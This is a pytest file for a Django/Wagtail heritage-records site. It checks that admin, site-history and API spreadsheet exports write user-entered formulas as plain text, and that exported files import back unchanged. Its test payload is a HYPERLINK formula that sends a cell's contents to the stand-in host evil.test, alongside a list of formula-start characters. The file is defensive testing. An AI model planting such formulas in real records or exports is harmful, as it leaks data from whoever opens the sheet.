"""Spreadsheets the site writes: a formula planted in a record is never run where a curator opens it."""

import csv
import io

import openpyxl
import pytest
from django.core.management import call_command

from heritage.models import RestorationRecord
from heritage.spreadsheets import spreadsheet_safe, spreadsheet_unsafe
from heritage.wagtail_hooks import RestorationRecordViewSet
from tests.factories import admin_record_create

FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"x")'
ADMIN_LIST_URL = "/admin/snippets/heritage/restorationrecord/"
API_EXPORT_URL = "/api/v1/restorations/export.csv"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The admin's headings are in the curator's language; the columns are in list_export's order.
REFERENCE, TITLE = (RestorationRecordViewSet.list_export.index(name) for name in ("reference", "title"))


@pytest.fixture
def planted(client, ngo_mon, restorer, curator):
    """A record whose title a restorer wrote as a formula in the admin, then published by a curator."""
    client.force_login(restorer)
    response = admin_record_create(client, ngo_mon, reference="HUE-NM-2024-07", title=FORMULA)
    assert response.status_code == 302, response.content.decode()[:2000]
    record = RestorationRecord.objects.get(reference="HUE-NM-2024-07")
    assert record.title == FORMULA
    record.latest_revision.publish(user=curator)
    client.force_login(curator)
    return record


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_admin_csv_export_writes_the_formula_as_text(client, planted):
    response = client.get(ADMIN_LIST_URL, {"export": "csv"})

    assert response.status_code == 200
    _header, *rows = _csv_rows(b"".join(response.streaming_content))
    (row,) = [row for row in rows if row[REFERENCE] == planted.reference]
    assert row[TITLE] == "'" + FORMULA
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def test_the_admin_xlsx_export_holds_the_formula_as_a_text_cell(client, planted):
    response = client.get(ADMIN_LIST_URL, {"export": "xlsx"})

    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    _header, *rows = sheet.iter_rows()
    (row,) = [row for row in rows if row[REFERENCE].value == planted.reference]
    # A text cell shows the title as written; a formula cell ("f") would run it.
    assert (row[TITLE].value, row[TITLE].data_type) == (FORMULA, "s")
    assert not [cell for row in rows for cell in row if cell.data_type == "f"]


def test_wagtails_own_reports_write_the_formula_as_text(client, ngo_mon, restorer, admin_user):
    # The site history names a record by "reference: title", and the restorer wrote both.
    reference = '=HYPERLINK("http://evil.test/","x")'
    client.force_login(restorer)
    assert admin_record_create(client, ngo_mon, reference=reference).status_code == 302

    client.force_login(admin_user)
    response = client.get("/admin/reports/site-history/", {"export": "csv"})

    assert response.status_code == 200
    _header, *rows = _csv_rows(b"".join(response.streaming_content))
    cells = [cell for row in rows for cell in row]
    assert f"'{reference}: Gia cố kèo" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


@pytest.fixture
def indexed(planted, settings, request):
    """With Elasticsearch, an index of the database as it is now (a test's saves never commit, so
    the sync after commit does not run), under a prefix of this test's own."""
    if settings.ELASTICSEARCH_URL:
        from search import es
        from tests.search.indexes import indexes_delete

        settings.ELASTICSEARCH_INDEX_PREFIX = f"{settings.ELASTICSEARCH_INDEX_PREFIX}formula-"
        request.addfinalizer(lambda: indexes_delete(f"{settings.ELASTICSEARCH_INDEX_PREFIX}*"))
        es.index_rebuild(force=True)
    return planted


def test_the_api_export_writes_the_formula_as_text_and_the_import_reads_it_back(client, indexed, tmp_path):
    planted = indexed
    response = client.get(API_EXPORT_URL)
    data = b"".join(response.streaming_content)
    header, *rows = _csv_rows(data)
    (row,) = [row for row in rows if row[header.index("reference")] == planted.reference]
    assert row[header.index("title")] == "'" + FORMULA

    # The exported file, imported again, changes nothing and keeps the title as it was written.
    RestorationRecord.objects.filter(pk=planted.pk).update(title="changed in between")
    path = tmp_path / "export.csv"
    path.write_bytes(data)
    out = io.StringIO()
    call_command("import_restorations", str(path), stdout=out, stderr=io.StringIO())
    assert out.getvalue().strip() == "created 0, updated 1, unchanged 0"
    planted.refresh_from_db()
    assert planted.title == FORMULA


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "plain",
        "1991-06",
        "=1+1",
        "+84 234",
        "-2 cột",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "'",
        "'quoted",
        "'=1",
        "''+2",
        "=",
        "-",
    ],
)
def test_every_cell_is_read_back_as_it_was_written(cell):
    written = spreadsheet_safe(cell)

    assert not written.startswith(FORMULA_STARTS)
    assert spreadsheet_unsafe(written) == cell
